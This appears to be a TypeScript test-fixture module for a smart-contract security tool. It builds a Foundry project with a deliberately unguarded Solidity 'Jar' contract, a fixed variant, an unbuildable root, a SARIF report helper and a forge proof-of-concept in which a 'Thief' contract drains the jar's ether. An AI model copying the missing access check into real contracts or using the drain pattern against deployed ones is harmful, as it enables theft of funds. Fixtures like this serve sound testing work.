// The code that stories bring along: small, ours, and wrong where a story needs it to be.

const CONFIGURATION = `[profile.default]
src = "src"
solc_version = "0.8.28"
ffi = true
`;

const JAR_HEAD = `// SPDX-License-Identifier: MIT
pragma solidity 0.8.28;

/// Holds ether for its owner.
contract Jar {
    address public immutable owner = msg.sender;
    address public keeper;

    constructor() payable {}
`;

const SET_KEEPER = `
    function setKeeper(address next) external {
        keeper = next;
    }
`;

const EMPTY_TO_ANYONE = `
    function empty(address payable to) external {
        (bool ok,) = to.call{value: address(this).balance}("");
        require(ok, "not paid");
    }
}
`;

/** The line of `src/Jar.sol` on which `empty` begins. */
export const LINE_OF_EMPTY = (JAR_HEAD + SET_KEEPER).split("\n").length + 1;

/** A Foundry root in which anyone empties the jar. */
export const JAR: Readonly<Record<string, string>> = {
  "foundry.toml": CONFIGURATION,
  "src/Jar.sol": JAR_HEAD + SET_KEEPER + EMPTY_TO_ANYONE,
  "keeper/package.json": `{ "name": "keeper", "version": "1.0.0", "private": true }\n`,
  "keeper/src/pay.ts": `export const words = (name: string): string => \`paid by \${name}\`;\n`,
};

/** The same with the check that was missing. */
export const MENDED_JAR: Readonly<Record<string, string>> = {
  ...JAR,
  "src/Jar.sol": (JAR_HEAD + SET_KEEPER + EMPTY_TO_ANYONE).replaceAll(
    " external {\n",
    ' external {\n        require(msg.sender == owner, "not the owner");\n',
  ),
};

/** A root beside it that cannot be built: what it imports is nowhere. */
export const BROKEN_ROOT: Readonly<Record<string, string>> = {
  "vendor/foundry.toml": CONFIGURATION,
  "vendor/src/Pay.sol": `// SPDX-License-Identifier: MIT
pragma solidity 0.8.28;

import {Nowhere} from "nowhere/Nowhere.sol";

contract Pay is Nowhere {}
`,
};

/** An exploit of the jar, as a forge test without any library. */
export const JAR_POC = `// SPDX-License-Identifier: MIT
pragma solidity 0.8.28;

import {Jar} from "../../src/Jar.sol";

contract Thief {
    function take(Jar jar) external {
        jar.empty(payable(address(this)));
    }

    receive() external payable {}
}

/// A stranger leaves with what is in the jar.
contract EmptyJar {
    function test_strangerEmptiesTheJar() external {
        Jar jar = new Jar{value: 1 ether}();
        Thief thief = new Thief();
        thief.take(jar);
        require(address(thief).balance == 1 ether, "the jar is still full");
    }
}
`;

/** One result of a report. */
export interface Result {
  readonly rule: string;
  readonly text: string;
  readonly path: string;
  readonly line: number;
  /** CVSS-like, as SARIF says it: 9 is critical, 7 high, 4 medium, less is low. */
  readonly score: number;
}

/** A report in SARIF 2.1.0; the rules are those that were on, whatever they found. */
export function sarif(tool: string, rules: readonly string[], results: readonly Result[]): string {
  return JSON.stringify({
    $schema: "https://json.schemastore.org/sarif-2.1.0.json",
    version: "2.1.0",
    runs: [
      {
        tool: { driver: { name: tool, version: "1.0.0", rules: rules.map((id) => ({ id })) } },
        invocations: [{ executionSuccessful: true }],
        results: results.map(({ rule, text, path, line, score }) => ({
          ruleId: rule,
          ruleIndex: rules.indexOf(rule),
          message: { text },
          locations: [{ physicalLocation: { artifactLocation: { uri: path }, region: { startLine: line } } }],
          partialFingerprints: { primaryLocationLineHash: `${path}:${line}` },
          properties: { "security-severity": String(score) },
        })),
      },
    ],
  });
}
